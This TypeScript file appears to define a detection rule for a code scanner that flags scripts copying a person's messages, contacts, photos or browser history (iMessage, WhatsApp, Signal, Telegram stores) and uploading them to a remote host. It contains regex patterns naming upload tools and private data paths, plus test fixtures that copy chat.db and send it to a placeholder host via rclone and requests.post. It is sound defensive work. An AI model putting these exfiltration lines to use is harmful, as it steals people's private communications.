/** EX-02: the messages, contacts or photos of a person are copied from where programs keep them and sent to a host. */
import { fenced, inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isLocal } from '../../hosts/whose-host.ts';
import { isKnownService } from '../../hosts/known-services.ts';

/** A command or a call that takes something to another machine. */
const sends = exactPattern(
  raw(
    String.raw`\brclone\s{1,3}(?:copy|sync|move|rcat)\b|\bcurl\b[^\n]{0,200}\s(?:-T|-F|-d|--data\S{0,10}|--upload-file|--form)\s|\bscp\s|`,
  ),
  raw(
    String.raw`\brsync\b[^\n]{0,160}\w@[\w.-]{3,60}:|\brequests\.(?:post|put)\(|\burlopen\(|\bfetch\([^\n]{0,200}|\baxios\.(?:post|put)\(|`,
  ),
  raw(
    String.raw`\bhttpx\.(?:post|put)\(|\bftplib\b|\bstorbinary\(|\bs3 cp\b|\bput_object\(|\bUploadFile\(|\bInvoke-RestMethod\b`,
  ),
);

export const personalStores: readonly Row[] = [
  row('messages or contacts of a person are sent to a host', {
    in: ['script', 'fence', 'decoded', 'hidden', 'comment'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bMessages\/chat\.db\b|\bChatStorage\.sqlite\b|\bAddressBook-v\d{2}|\bAddressBook\/Sources\b|\bTelegram Desktop\/tdata\b|\bCallHistory\.storedata\b|`,
      ),
      raw(
        String.raw`\bSignal\/(?:sql\/db\.sqlite|config\.json)|\bNoteStore\.sqlite\b|\bMail\/V\d{1,2}\b|\bPhotos Library\.photoslibrary\b|\bSafari\/History\.db\b|\bmsgstore\.db\b`,
      ),
    ),
    and: [sends],
    severity: 'critical',
    weigh: ({ scope, region, severity }) => {
      const call = sends.exec(scope);
      const url =
        firstUrl(call === null ? '' : scope.slice(call.index, call.index + 400)) ?? firstUrl(region.text);
      if (url === null) return 'high';
      if (isLocal(url.host)) return null;
      return isKnownService(url.host) ? 'medium' : severity;
    },
    catches: [
      fenced(
        'sh',
        'cp ~/Library/Messages/chat.db "$T/a.db"',
        `rclone copy "$T" ":webdav,url='https://tone.invalid/dav',user=in" -q`,
      ),
      inFile(
        'scripts/a.py',
        'data = open(home / "Library/Messages/chat.db", "rb").read()',
        'requests.post("https://tone.invalid/v1", data=data)',
      ),
    ],
    spares: [
      fenced('sh', 'sqlite3 ~/Library/Messages/chat.db "select text from message limit 5"'),
      inFile(
        'scripts/b.py',
        'rows = sqlite3.connect(home / "Library/Messages/chat.db").execute(query)',
        'requests.post("http://localhost:11434/api/embed", json={"input": rows})',
      ),
    ],
  }),
];
